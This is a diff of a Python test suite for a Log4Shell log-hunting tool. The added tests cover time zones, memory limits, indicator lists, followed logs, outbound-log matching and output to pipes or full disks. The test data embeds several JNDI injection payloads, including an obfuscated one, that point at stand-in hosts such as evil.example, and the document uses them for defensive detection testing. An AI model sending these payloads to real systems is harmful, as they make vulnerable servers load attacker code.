@@ -1,5 +1,5 @@
 """hikeshi hunt: logs made here in every format and packing, and the labelled texts where they exist."""
-import base64, bz2, csv, gzip, io, json, lzma, os, random, re, resource, shutil, signal, subprocess, sys
+import base64, bz2, csv, gzip, io, json, lzma, os, random, re, resource, shutil, signal, stat, subprocess, sys
 import tarfile, tempfile, threading, time, unittest, urllib.parse, zipfile
 
 BUILD = os.environ.get("HIKESHI_BUILD", "build")
@@ -60,6 +60,17 @@ class Case(unittest.TestCase):
         for key, value in want.items():
             self.assertEqual(rows[0][key], value, rows[0])
         return rows[0]
+
+    def limited(self, path, *args, stdin=None):
+        """Runs it below a small process, for a child is charged with what its parent held."""
+        code = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:]); "
+                "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)")
+        r = subprocess.run([sys.executable, "-S", "-c", code, TOOL, "hunt", "--format", "jsonl", *args, path],
+                           capture_output=True, env=env_of(), stdin=stdin, timeout=120)
+        if not SANITIZED:
+            self.assertLess(int(r.stderr.split()[-1]), MEMORY)
+        rows = [json.loads(x) for x in r.stdout.splitlines()]
+        return rows[:-1], rows[-1]["summary"]
 
 
 class Verdicts(Case):
@@ -240,6 +251,17 @@ class Formats(Case):
         os.utime(path, (1646100000, 1646100000))  # March of 2022: the leap day of 2020
         self.assertEqual(hunt(path)[1][0]["time"], "2020-02-29T03:00:00.000Z")
 
+    def test_words_that_begin_like_a_zone(self):
+        for word, utc in (("Zeus", "09:12:33"), ("ESTABLISHED", "09:12:33"), ("Z", "18:12:33"), ("EST", "23:12:33")):
+            self.one("2021-12-10 18:12:33 %s INFO ${jndi:ldap://h/a}\n" % word, time="2021-12-10T%s.000Z" % utc)
+
+    def test_nothing_lies_between(self):
+        path = self.put("x.log", access(PAYLOAD))
+        for since, until in (("2021-12-14", "2021-12-13"), ("2021-12-14", "2021-12-14")):
+            r = run("--since", since, "--until", until, path)
+            self.assertEqual((r.returncode, r.stdout), (2, b""))
+            self.assertIn(b"--until", r.stderr)
+
     def test_since_and_until_to_the_millisecond(self):
         path = self.put("x", "".join(json.dumps({"ts": t, "m": PAYLOAD}) + "\n" for t in ("2021-12-13T00:00:00.%03dZ" % n for n in range(5))))
         for args, lines in ((["--since", "2021-12-13T00:00:00.002Z"], [3, 4, 5]), (["--until", "2021-12-13T00:00:00.002Z"], [1, 2]),
@@ -358,17 +380,6 @@ class Packing(Case):
 
 
 class Size(Case):
-    def limited(self, path, *args, stdin=None):
-        """Runs it below a small process, for a child is charged with what its parent held."""
-        code = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:]); "
-                "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)")
-        r = subprocess.run([sys.executable, "-S", "-c", code, TOOL, "hunt", "--format", "jsonl", *args, path],
-                           capture_output=True, env=env_of(), stdin=stdin, timeout=120)
-        if not SANITIZED:
-            self.assertLess(int(r.stderr.split()[-1]), MEMORY)
-        rows = [json.loads(x) for x in r.stdout.splitlines()]
-        return rows[:-1], rows[-1]["summary"]
-
     def test_a_line_of_100_mb(self):
         middle = b"x" * (50 << 20)
         text = b"first\n" + middle + access(PAYLOAD).encode().strip() + middle + PAYLOAD.encode() + b"\n" + PAYLOAD.encode() + b"\n"
@@ -463,7 +474,7 @@ class Limits(Case):
             text = "".join(access("${jndi:ldap://h%d.example/}" % i) for i in range(n))
             _, rows, s = hunt("--outbound", out, "-", input=text.encode())
             self.assertEqual((len(rows), s["incomplete_count"]), (n, n > 20000))
-        self.assertIn("1 sightings lead to call-backs that were not looked for: the first 20000 are", s["incomplete"][0]["reason"])
+        self.assertIn("1 call-backs or indicators were not looked for", s["incomplete"][0]["reason"])
 
     def test_events_of_a_call_back(self):
         """However often somebody went there before, the one behind the attempt counts."""
@@ -482,7 +493,33 @@ class Limits(Case):
             _, rows, s = hunt("--outbound", self.put("out.log", before * n), "--ioc", "203.0.113.9", clean)
             self.assertEqual((len(rows), s["incomplete_count"]), (min(n, 32), n > 32))
             if n > 32:
-                self.assertEqual(s["incomplete"], [{"path": "203.0.113.9", "reason": "%d more went there: only the first 32 are shown" % (n - 32)}])
+                self.assertEqual(s["incomplete"], [{"path": "203.0.113.9", "reason": "%d more went there than are shown" % (n - 32)}])
+
+    def test_events_of_all_call_backs(self):
+        """100,000 are kept of all together: what is behind the attempts is found all the same."""
+        n = 20000
+        path = self.put("a.log", "".join(access("${jndi:ldap://h%d.example/}" % i) for i in range(n)))
+        def asked(day, at):
+            return "".join("Dec %d 22:%02d:06 ns dnsmasq[7]: query[A] h%d.example from 2001:db8:1111:2222:3333:4444:5555:6666\n"
+                           % (day, at, i) for i in range(n))
+        out = self.put("out.log", "".join(asked(11, at) for at in range(10)) + asked(13, 50))
+        rows, s = self.limited(path, "--outbound", out)
+        self.assertEqual((s["callbacks_answered"], s["incomplete_count"]), (n, 0))
+        self.assertTrue(all(r["answer"].endswith("from 2001:db8:1111:2222:3333:4444:5555:6666") for r in rows))
+
+    def test_long_names(self):
+        """What can be no host's name takes no place among those that are counted, however much there is of it."""
+        out = self.put("out.log", OUTBOUND["squid"])
+        many = lambda n, k: "".join(access("${jndi:ldap://%06d%s/}" % (i, "x" * (k - 6))) for i in range(n))
+        for k in (254, 255, 256, 3900):
+            rows, s = self.limited(self.put("a.log", many(9000, k) + access(PAYLOAD)), "--outbound", out)
+            self.assertEqual((len(rows), s["incomplete_count"]), (9001, 1), k)
+            named = 0 if k > 255 else 2 * 1024 * 1024 // k
+            self.assertEqual((len(s["callbacks"]), s["callbacks_answered"]), (named + 1, 1), k)  # the last one is short enough
+            self.assertEqual(s["not_named"], 9001 - len(s["callbacks"]))
+        text = many(5000, 200).replace("x", "\x01").replace("inde\x01", "index")
+        rows, s = self.limited(self.put("a.log", text))
+        self.assertEqual((len(rows), len(s["callbacks"])), (5000, 5000))
 
     def test_matches_of_patterns(self):
         self.put("p/patterns.tsv", "loader\tclassLoader\tclass loader\tクラスローダー\n")
@@ -539,8 +576,8 @@ class Follow(Case):
                 lines.append(json.loads(line))
         return lines
 
-    def begin(self, *args):
-        p = subprocess.Popen([TOOL, "hunt", "--follow", "--format", "jsonl", *args], stdout=subprocess.PIPE, env=env_of())
+    def begin(self, *args, stdin=None):
+        p = subprocess.Popen([TOOL, "hunt", "--follow", "--format", "jsonl", *args], stdin=stdin, stdout=subprocess.PIPE, env=env_of())
         self.addCleanup(p.stdout.close)
         self.addCleanup(p.wait, 20)
         self.addCleanup(p.kill)
@@ -642,6 +679,37 @@ class Follow(Case):
         rows, s = self.end(p)
         self.assertEqual([i["path"] for i in s["incomplete"]], [path])
         self.assertIn("UTF-32", s["incomplete"][0]["reason"])
+
+    def test_a_writer_that_never_stops(self):
+        """It neither keeps the others from being read nor the search from ending."""
+        path = self.put("x.log", "")
+        yes = subprocess.Popen(["yes", "${jndi:ldap://h/${${a:-x}"], stdout=subprocess.PIPE)
+        self.addCleanup(yes.wait)
+        self.addCleanup(yes.kill)
+        p = self.begin("--least", "reaches", "-", path, stdin=yes.stdout)
+        yes.stdout.close()
+        time.sleep(0.5)
+        self.put("x.log", self.attempt("one"))
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("one.example", 1)])
+        self.assertEqual(self.end(p)[0], [])
+
+    def test_what_cannot_be_opened_after_rotation(self):
+        path = self.put("x.log", self.attempt("one"))
+        p = self.begin(path)
+        self.wait_for(p, 1)
+        os.rename(path, path + ".1")
+        os.symlink("x.log", path)  # leads to itself
+        time.sleep(1.3)
+        os.unlink(path)
+        os.symlink("x.log.2", path)
+        self.put("x.log.2", self.attempt("two"))
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("two.example", 1)])
+        self.put("x.log.3", self.attempt("three"))
+        os.symlink("x.log.3", path + ".new")
+        os.replace(path + ".new", path)
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("three.example", 1)])
+        rows, s = self.end(p)
+        self.assertEqual([(i["path"], "symbolic links" in i["reason"]) for i in s["incomplete"]], [(path, True)])
 
     def test_columns_that_are_named_later(self):
         path = self.put("x.log", "#Software: Microsoft Internet Information Services 10.0\n")
@@ -890,6 +958,80 @@ class Outbound(Case):
             self.assertEqual((code, s["verdicts"]["called-back"]), (0, 1))
         self.assertEqual(hunt("--outbound", out, "--ioc", "192.0.2.200", clean)[0], 1)
 
+    def test_lists_as_they_come(self):
+        """In UTF-16 as Windows saves them, without a scheme, with NULs and long lines; what cannot be looked for is said."""
+        clean = self.put("a.log", access())
+        out = self.put("out.log", OUTBOUND["squid"].replace("203.0.113.9", "evil.example"))
+        text = "type;value\r\nurl;evil.example/a.class\r\n"
+        for data in (text.encode("utf-16"), text.encode("utf-16-be"), text.encode("utf-32"), text.encode("utf-32-le"),
+                     b"x" * 3000000 + b"\0\n\0" + text.encode() + b"\0" * 1000, b"evil.example/a"):
+            code, rows, s = hunt("--outbound", out, "--ioc", self.put("l.txt", data), clean)
+            self.assertEqual([r["callback"]["host"] for r in rows], ["evil.example"], data[:40])
+            self.assertEqual(s["incomplete_count"], 0)
+        path = self.put("l.txt", "203.0.113.0/24\n2001:db8::/32\n192.0.2.1/32\n")
+        code, rows, s = hunt("--outbound", out, "--ioc", path, clean)
+        self.assertEqual((code, [i["path"] for i in s["incomplete"]]), (2, ["203.0.113.0/24", "2001:db8::/32"]))
+        path = self.put("l.txt", "5f4dcc3b5aa765d61d8327deb882cf99\n")
+        code, rows, s = hunt("--outbound", out, "--ioc", path, clean)
+        self.assertEqual((code, s["incomplete"]), (2, [{"path": path, "reason": "no address and no name stands in it"}]))
+
+    def test_more_indicators_than_are_looked_for(self):
+        clean = self.put("a.log", access())
+        out = self.put("out.log", OUTBOUND["squid"])
+        path = self.put("l.txt", "".join("h%d.example\n" % i for i in range(500000)))
+        rows, s = self.limited(clean, "--outbound", out, "--ioc", path)
+        self.assertEqual([i["reason"] for i in s["incomplete"]],
+                         ["480000 call-backs or indicators were not looked for: too many, or too long"])
+
+    def test_hostile_outbound_logs(self):
+        """A line of 50 MB, NULs, a million hosts, and columns without end hide nothing and take no memory."""
+        path = self.put("a.log", access(PAYLOAD))
+        for before in ("x" * 50000000 + "\n", "\0" * 100000 + "\n", "".join(OUTBOUND["squid"].replace("203.0.113.9", "h%d.example" % i) for i in range(300000))):
+            rows, s = self.limited(path, "--outbound", self.put("out.log", before + OUTBOUND["squid"]))
+            self.assertEqual((rows[0]["verdict"], s["incomplete_count"]), ("called-back", 0), before[:20])
+        head = "time,src,dst,action" + ",dst" * 20000
+        out = self.put("out.log", head + "\n2021-12-13 22:40:06,10.20.3.11,203.0.113.9,allow\n")
+        rows, s = self.limited(path, "--outbound", out)
+        self.assertEqual(rows[0]["verdict"], "called-back")
+
+    def test_a_pipe_is_not_read_twice(self):
+        """An address that is learnt from it may stand before: that is said, and nobody waits for a second writer."""
+        path = self.put("a.log", access("${jndi:ldap://evil.example/a}"))
+        log = OUTBOUND["packet"] + "Dec 13 22:40:07 ns dnsmasq[7]: reply evil.example is 203.0.113.9\n"
+        code, rows, s = hunt("--outbound", self.put("out.log", log), path)
+        self.assertEqual((rows[0]["verdict"], s["incomplete_count"]), ("called-back", 0))
+        with open(self.put("out.gz", gzip.compress(log.encode())[:-8])) as f:
+            code, rows, s = hunt("--outbound", "-", path, stdin=f)
+        self.assertEqual((rows[0]["verdict"], s["incomplete_count"]), ("called-back", 1))
+        code, rows, s = hunt("--outbound", "-", path, input=log.encode())
+        self.assertEqual((rows[0]["verdict"], [i["path"] for i in s["incomplete"]]), ("reaches", ["-"]))
+        fifo = os.path.join(self.dir, "fifo")
+        os.mkfifo(fifo)
+        writer = threading.Thread(target=lambda: self.put("fifo", log))
+        writer.start()
+        code, rows, s = hunt("--outbound", fifo, path)
+        writer.join()
+        self.assertEqual((rows[0]["verdict"], [i["path"] for i in s["incomplete"]]), ("reaches", [fifo]))
+
+    def test_spool(self):
+        """What waits for the outbound logs waits where TMPDIR says, in a file without a name."""
+        fifo, tmp = os.path.join(self.dir, "fifo"), os.path.join(self.dir, "tmp")
+        os.mkfifo(fifo)
+        os.mkdir(tmp)
+        p = subprocess.Popen([TOOL, "hunt", "--outbound", fifo, self.put("a.log", access(PAYLOAD))], stdout=subprocess.PIPE,
+                             env=env_of({"TMPDIR": tmp}))
+        try:
+            with open(fifo, "w") as f:  # it has searched the log and waits for us
+                links = [os.readlink("/proc/%d/fd/%s" % (p.pid, n)) for n in os.listdir("/proc/%d/fd" % p.pid)]
+                self.assertTrue(any(x.startswith(tmp + "/") for x in links), links)
+                self.assertEqual(os.listdir(tmp), [])
+                f.write(OUTBOUND["squid"])
+            self.assertIn(b"CALLED BACK", p.communicate(timeout=20)[0])
+        finally:
+            p.kill()
+            p.wait()
+            p.stdout.close()
+
     def test_not_an_outbound_log(self):
         r = run("--outbound", self.put("wifi.csv", "name,signal\nx,3\n"), self.put("a.log", access(PAYLOAD)))
         self.assertEqual(r.returncode, 2)
@@ -999,6 +1141,38 @@ class Table(Case):
         for fmt in ("table", "csv", "jsonl"):
             out = run("--format", fmt, path).stdout
             self.assertNotIn(b"\x1b", out, fmt)
+        r = run("-c", path, self.put("\x1b[31m.zip", b"PK\3\4"), "/no/\x1b[31m")
+        self.assertEqual(r.stderr.count(b"\n"), 2)
+        r2 = run("--outbound", "/no/\x1b[31m", path)
+        self.assertNotIn(b"\x1b", r.stdout + r.stderr + r2.stdout + r2.stderr)
+
+    def test_full_disk_and_closed_pipe(self):
+        path = self.put("a.log", access(PAYLOAD) * 20000)
+        for args in (["--format", "table"], ["--format", "jsonl"], ["--format", "csv"], ["-c"], ["--follow", "--format", "jsonl"]):
+            with open("/dev/full", "wb") as full:
+                p = subprocess.run([TOOL, "hunt", *args, path], stdout=full, stderr=subprocess.PIPE, env=env_of(), timeout=60)
+            self.assertEqual((p.returncode, b"No space left" in p.stderr), (2, True), args)
+            if args != ["-c"]:
+                p = subprocess.run("%s hunt %s %s | head -c 9" % (TOOL, " ".join(args), path), shell=True, capture_output=True,
+                                   env=env_of(), timeout=60)
+                self.assertEqual((len(p.stdout), p.stderr), (9, b""), args)
+
+    def test_indicators_into_a_pipe(self):
+        """What is there and no file is written to and not replaced."""
+        fifo, got = os.path.join(self.dir, "ioc.csv"), []
+        os.mkfifo(fifo)
+        reader = threading.Thread(target=lambda: got.append(read_text(fifo)))
+        reader.start()
+        try:
+            self.assertEqual(run("--ioc-out", fifo, self.put("a.log", access(PAYLOAD))).returncode, 0)
+            self.assertTrue(stat.S_ISFIFO(os.stat(fifo).st_mode))
+        finally:
+            if reader.is_alive() and not got:
+                os.close(os.open(fifo, os.O_RDWR | os.O_NONBLOCK)) if stat.S_ISFIFO(os.stat(fifo).st_mode) else None
+            reader.join(5)
+        self.assertIn("ipv4,203.0.113.9,call-back host", got[0])
+        r = run("--ioc-out", "/dev/stdout", "--no-summary", self.put("a.log", access(PAYLOAD)))
+        self.assertIn(b"ipv4,203.0.113.9,call-back host", r.stdout)
 
     def test_nothing(self):
         out = run(self.put("a.log", access() * 3)).stdout.decode()
